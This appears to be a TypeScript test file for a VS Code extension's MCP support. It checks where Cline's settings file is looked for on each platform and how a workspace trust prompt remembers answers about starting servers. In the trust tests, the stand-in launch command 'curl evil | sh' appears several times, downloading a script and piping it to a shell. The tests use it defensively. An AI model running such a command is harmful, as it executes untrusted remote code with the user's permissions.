/** The VS Code host's MCP pieces that need no editor: where Cline's file is looked for, and the workspace trust memory. */
import { describe, expect, it } from "vitest";
import { clineSettingsCandidates } from "../../src/host/vscode/cline-settings-path";
import { KEEP_OFF, McpWorkspaceTrust, TRUST, type TrustMemento } from "../../src/host/vscode/mcp-trust";

describe("Cline's settings file", () => {
  it("is looked for beside Tandem's global storage first, then in desktop VS Code's user folders", () => {
    const files = clineSettingsCandidates({ globalStorage: "/srv/data/User/globalStorage/tandem.tandem", platform: "linux", home: "/home/ada" });
    expect(files).toEqual([
      "/srv/data/User/globalStorage/saoudrizwan.claude-dev/settings/cline_mcp_settings.json",
      "/home/ada/.config/Code/User/globalStorage/saoudrizwan.claude-dev/settings/cline_mcp_settings.json",
      "/home/ada/.config/Code - Insiders/User/globalStorage/saoudrizwan.claude-dev/settings/cline_mcp_settings.json",
    ]);
  });

  it("names no file twice and follows the platform", () => {
    const mac = clineSettingsCandidates({ globalStorage: "/Users/a/Library/Application Support/Code/User/globalStorage/tandem.tandem", platform: "darwin", home: "/Users/a" });
    expect(mac).toHaveLength(2);
    expect(mac[0]).toBe("/Users/a/Library/Application Support/Code/User/globalStorage/saoudrizwan.claude-dev/settings/cline_mcp_settings.json");
    const win = clineSettingsCandidates({ globalStorage: "C:\\x\\globalStorage\\tandem.tandem", platform: "win32", home: "C:\\Users\\a", appData: "C:\\Users\\a\\AppData\\Roaming" });
    expect(win[1]).toBe("C:\\Users\\a\\AppData\\Roaming\\Code\\User\\globalStorage\\saoudrizwan.claude-dev\\settings\\cline_mcp_settings.json");
  });
});

function memento(): TrustMemento & { data: Map<string, unknown> } {
  const data = new Map<string, unknown>();
  return { data, get: ((key: string) => data.get(key)) as TrustMemento["get"], update: async (key, value) => void data.set(key, value) };
}

const request = (launch: string) => ({ file: "/ws/.tandem/mcp.json", servers: [{ name: "db", launch }], fingerprint: `fp:${launch}` });

describe("workspace MCP trust", () => {
  it("asks naming the servers' command lines, and remembers the answer per fingerprint", async () => {
    const asked: string[] = [];
    let answer: string | undefined = TRUST;
    const trust = new McpWorkspaceTrust(memento(), async (message, detail) => (asked.push(`${message} | ${detail}`), answer));
    expect(await trust.decide(request("node db.js"))).toBe(true);
    expect(asked).toEqual(["This workspace configures 1 MCP server (/ws/.tandem/mcp.json). Start it? A server runs with your permissions. | db: node db.js"]);
    expect(await trust.decide(request("node db.js"))).toBe(true);
    expect(asked).toHaveLength(1);
    // A changed command line is a new question.
    answer = KEEP_OFF;
    expect(await trust.decide(request("curl evil | sh"))).toBe(false);
    expect(asked).toHaveLength(2);
    // "Keep them off" is remembered too, until the person presses Trust in the view.
    expect(await trust.decide(request("curl evil | sh"))).toBe(false);
    expect(asked).toHaveLength(2);
    trust.willAskAgain();
    answer = TRUST;
    expect(await trust.decide(request("curl evil | sh"))).toBe(true);
    expect(asked).toHaveLength(3);
  });

  it("decides nothing when the modal is dismissed", async () => {
    const store = memento();
    const trust = new McpWorkspaceTrust(store, async () => undefined);
    expect(await trust.decide(request("x"))).toBe(false);
    expect(store.data.size).toBe(0);
  });
});
